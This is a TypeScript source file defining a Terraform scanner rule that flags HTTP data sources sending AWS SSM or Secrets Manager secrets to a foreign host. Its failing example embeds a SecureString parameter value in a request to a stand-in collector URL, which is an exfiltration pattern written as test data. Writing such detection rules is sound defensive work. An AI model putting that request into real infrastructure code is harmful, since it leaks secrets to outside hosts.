import { defineRule, equals, hcl, judge, worst, type ResourceView, type Truth } from '@terrasafe/rule-kit';

interface SecretSource {
  readonly type: string;
  readonly attributes: readonly string[];
  readonly isSecret: (source: ResourceView) => Truth;
}

const secretSources: readonly SecretSource[] = [
  {
    type: 'aws_ssm_parameter',
    attributes: ['value', 'insecure_value'],
    isSecret: (parameter) => parameter.attribute('type').is(equals('SecureString')),
  },
  // A data source does not say what type the parameter has.
  { type: 'data.aws_ssm_parameter', attributes: ['value'], isSecret: () => 'unknown' },
  { type: 'aws_secretsmanager_secret_version', attributes: ['secret_string'], isSecret: () => 'true' },
  { type: 'data.aws_secretsmanager_secret_version', attributes: ['secret_string'], isSecret: () => 'true' },
];

export default defineRule({
  id: 'AWS-SSM-0006',
  title: 'Secret is sent away by an HTTP request of Terraform',
  severity: 'CRITICAL',
  category: 'other',
  why: 'The secret leaves for a foreign host at every plan, and stays in its access log.',
  fix: 'Remove the secret from url and request_headers.',
  aliases: ['CKV2_AWS_36', 'AVD-AWS-0134', 'aws-ssm-avoid-leaks-via-http'],
  mitre: ['T1567'],
  references: ['https://registry.terraform.io/providers/hashicorp/http/latest/docs/data-sources/http'],
  resource: 'data.http',
  check: (request, module) =>
    worst(
      request.references
        .filter(({ from }) => /^(?:url|request_headers|request_body)\b/.test(from))
        .flatMap(({ from, to, attribute }) =>
          secretSources
            .filter(({ attributes }) => attributes.includes(attribute))
            .flatMap(({ type, isSecret }) =>
              module
                .ofType(type)
                .filter(({ address }) => to.includes(address))
                .map(isSecret),
            )
            .map((isSecret) => judge(isSecret, 'a secret is part of the request', request.first(from))),
        ),
    ),
  examples: {
    fail: [
      hcl`
        resource "aws_ssm_parameter" "orders" {
          name  = "/orders/db"
          type  = "SecureString"
          value = "s3cret"
        }

        data "http" "orders" {
          url = "https://collector.example.com/?v=\${aws_ssm_parameter.orders.value}"
        }
      `,
    ],
    pass: [
      hcl`
        resource "aws_ssm_parameter" "orders" {
          name  = "/orders/db"
          type  = "String"
          value = "blue"
        }

        data "http" "orders" {
          url = "https://collector.example.com/?v=\${aws_ssm_parameter.orders.value}"
        }
      `,
      hcl`
        resource "aws_ssm_parameter" "orders" {
          name  = "/orders/db"
          type  = "SecureString"
          value = "s3cret"
        }

        data "http" "orders" {
          url = "https://collector.example.com/?v=\${aws_ssm_parameter.orders.name}"
        }
      `,
    ],
    unknown: [
      hcl`
        variable "it" {
          type = string
        }

        resource "aws_ssm_parameter" "orders" {
          name  = "/orders/db"
          type  = var.it
          value = "s3cret"
        }

        data "http" "orders" {
          url = "https://collector.example.com/?v=\${aws_ssm_parameter.orders.value}"
        }
      `,
    ],
  },
});
